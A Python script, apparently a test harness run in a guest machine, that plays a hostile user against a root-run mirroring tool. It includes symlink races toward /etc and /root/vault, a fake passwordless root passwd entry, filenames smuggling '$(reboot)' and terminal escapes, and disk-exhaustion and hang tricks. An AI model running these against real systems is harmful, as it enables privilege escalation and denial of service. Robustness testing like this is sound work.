"""What a user does who means harm to everybody's mirror; runs in a guest, as that user.

`foe.py lay HOME NIGHT` lays it out by day. `foe.py act HOME` goes on while root works: it exchanges
a folder and a link, and lays links under every name that it reads in root's command lines.
As root, for what a user has from an administrator and from fusermount: `foe.py quota DEVICE USER
MIB` sets a limit, `foe.py fuse HOME USER NAME` mounts what nobody answers in the user's name.
"""

import contextlib
import ctypes
import itertools
import os
import pwd
import re
import struct
import sys
import time
from pathlib import Path

OUTSIDE = ("/etc", "../../etc", "../../../../../../etc", ".", "/root/vault")
"""Where root's writes and reads shall go: the live system, the same on the mirror, a secret."""
GUESSED = (
    ".rescue~new",
    ".rescue-new",
    ".rescue-restore",
    ".rescue-replaced",
    ".rescue-losers",
    ".rescue",
)
"""Names that rescue uses or used for folders and files of its own."""
VICTIMS = ("passwd", "shadow", "hostname", "crontab")
DEPTH = 24
ODD_NAMES = (
    b"\x1b[2J\x1b[31mall is well\x1b[0m",
    b"line\nrescue: mirror MIRROR01 is complete",
    b"[bold red]markup",
    b"latin1-\xe4\xf6",
    "right\u202eto left".encode(),
    b"%s%n$(reboot)`reboot`",
    b"- anna***",
)
_LIBC = ctypes.CDLL(None, use_errno=True)
_AT_FDCWD, _EXCHANGE = -100, 2


def exchange(one: Path, other: Path) -> None:
    """Let two names change places at once (man 2 renameat2)."""
    names = os.fsencode(one), os.fsencode(other)
    if _LIBC.renameat2(_AT_FDCWD, names[0], _AT_FDCWD, names[1], _EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "renameat2", str(one))


def link(path: Path, target: str) -> None:
    """Lay a link, whatever was there."""
    if path.is_symlink() or path.is_file():
        path.unlink()
    if not path.exists():
        path.symlink_to(target)


def lay_links(home: Path, night: int) -> None:
    """Lay links under the names that are guessed, beside files named as the system's."""
    for number, (name, target) in enumerate(itertools.product(GUESSED, OUTSIDE)):
        folder = home / "traps" / str(number)
        folder.mkdir(parents=True, exist_ok=True)
        link(folder / name, target)
        for victim in VICTIMS:
            (folder / victim).write_text(f"bela::0:0::/:/bin/sh\nnight {night}\n")
    plain = home / "traps" / "plain"
    plain.mkdir(exist_ok=True)
    for name in GUESSED:
        (plain / name).write_text("a file in the place of a folder\n")
    (plain / "passwd").write_text(f"night {night}\n")


def lay_depth(home: Path, night: int) -> None:
    """Nest folders until no path leads to the innermost any more (PATH_MAX, 4,096 bytes)."""
    os.chdir(home)
    for _ in range(DEPTH):
        name = "deep" * 50
        if not os.path.isdir(name):
            os.mkdir(name)
        os.chdir(name)
    with open("bottom", "w") as stream:
        stream.write(f"night {night}\n")
    os.chdir("/")


def lay_sparse(home: Path) -> None:
    """Make a file of 15 TiB that holds a few bytes, and touch it."""
    with (home / "disk.img").open("ab") as stream:
        stream.truncate(15 << 40)
    os.utime(home / "disk.img")


def lay_set_back(home: Path, night: int) -> None:
    """Rewrite files and put size and time back."""
    folder = home / "set-back"
    folder.mkdir(exist_ok=True)
    for number in range(300):
        path = folder / str(number)
        path.write_text(f"night {night:03} file {number:05}\n")
        os.utime(path, (1017619200, 1017619200))


def lay_names(home: Path, night: int) -> None:
    """Make files whose names say something else."""
    folder = os.fsencode(home / "names")
    os.makedirs(folder, exist_ok=True)
    for name in ODD_NAMES:
        with open(folder + b"/" + name, "wb") as stream:
            stream.write(b"night %d\n" % night)


def fill_quota(home: Path) -> None:
    """Write until the user's limit (or the file system) ends it."""
    with contextlib.suppress(OSError), (home / "fill").open("wb") as stream:
        for _ in range(1024):
            stream.write(b"\1" * (1 << 20))


def lay(home: Path, night: int) -> None:
    """Lay out everything that stands there when the night comes."""
    lay_links(home, night)
    lay_depth(home, night)
    lay_sparse(home)
    lay_set_back(home, night)
    lay_names(home, night)
    lay_box(home, night)
    fill_quota(home)


def lay_box(home: Path, night: int) -> None:
    """Put back what `act` exchanges: a folder of files, and a link to what is root's."""
    box, other = home / "mailbox", home / "mailbox-link"
    if box.is_symlink():
        exchange(box, other)
    link(other, "/root/vault")
    box.mkdir(exist_ok=True)
    for number in range(200):
        (box / f"key{number}").write_text(f"night {night}\n")


_NAMED = re.compile(rb"--(?:partial-dir|temp-dir|backup-dir|suffix)=([^\0]+)")


def names_in_use() -> set[str]:
    """Return the names of folders in the command lines of all processes: every user reads them."""
    found: set[str] = set()
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            line = path.read_bytes()
        except OSError:
            continue
        found |= {os.fsdecode(name).rsplit("/", 1)[-1] for name in _NAMED.findall(line)}
    return found


def act(home: Path) -> None:
    """Race root until killed: swap what it walks through, lay links where it will write."""
    one, other = home / "mailbox", home / "mailbox-link"
    while True:
        for name in names_in_use():
            for folder in (home / "traps" / "plain", one, home):
                with contextlib.suppress(OSError):
                    link(folder / name, "/etc")
        for _ in range(50):
            exchange(one, other)
            time.sleep(0.002)


def quota(device: str, uid: int, mib: int) -> None:
    """Limit a user's room on a file system (man 2 quotactl, Q_SETQUOTA)."""
    limits = struct.pack("=8QI4x", mib << 10, mib << 10, 0, 0, 0, 0, 0, 0, 1)
    if _LIBC.quotactl(0x800008 << 8, device.encode(), uid, limits) != 0:
        raise OSError(ctypes.get_errno(), "quotactl", device)


def fuse(home: Path, user: int, name: str) -> None:
    """Mount what no other user may look into, root included (man 8 mount.fuse)."""
    place = home / "cloud"
    place.mkdir(exist_ok=True)
    os.chown(place, user, user)
    fd = os.open("/dev/fuse", os.O_RDWR)
    options = f"fd={fd},rootmode=40000,user_id={user},group_id={user}".encode()
    if _LIBC.mount(name.encode(), os.fsencode(place), b"fuse.sshfs", 6, options) != 0:
        raise OSError(ctypes.get_errno(), "mount", str(place))
    while True:
        time.sleep(3600)


def main(verb: str, *words: str) -> None:
    """Do one of them."""
    match verb, *words:
        case "lay", home, night:
            lay(Path(home), int(night))
        case "act", home:
            act(Path(home))
        case "quota", device, user, mib:
            quota(device, pwd.getpwnam(user).pw_uid, int(mib))
        case "fuse", home, user, name:
            fuse(Path(home), pwd.getpwnam(user).pw_uid, name)
        case _:
            sys.exit(f"no such verb: {verb}")


if __name__ == "__main__":
    main(*sys.argv[1:])
